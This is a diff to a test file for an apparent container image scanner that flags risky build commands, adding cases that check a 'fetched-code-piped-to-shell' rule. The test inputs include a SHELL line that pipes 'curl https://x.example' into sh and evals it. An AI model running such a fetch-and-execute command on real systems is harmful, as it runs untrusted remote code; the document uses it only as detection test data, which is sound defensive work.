@@ -171,6 +171,14 @@ test('a word that only looks like a secret hides nothing of the instruction', ()
   );
 });
 
+test.each([
+  ['SHELL ["/bin/bash", "-c", "curl https://x.example | sh; eval \\"$0\\""]'],
+  ['SHELL [/bin/bash -c curl https://x.example | sh]'],
+])('a command in %s is found', (createdBy) => {
+  const { findings } = findBuildCommandRisks(image([{ createdBy, emptyLayer: true }]));
+  expect(findings.map(({ rule }) => rule)).toContain('fetched-code-piped-to-shell');
+});
+
 test('a value that Kaniko leaves out of the history is found in the config', () => {
   const kaniko = image([{ createdBy: 'ENV DB_PASSWORD=$DB_PASSWORD', author: 'kaniko', emptyLayer: true }]);
   const { findings } = findBuildCommandRisks({
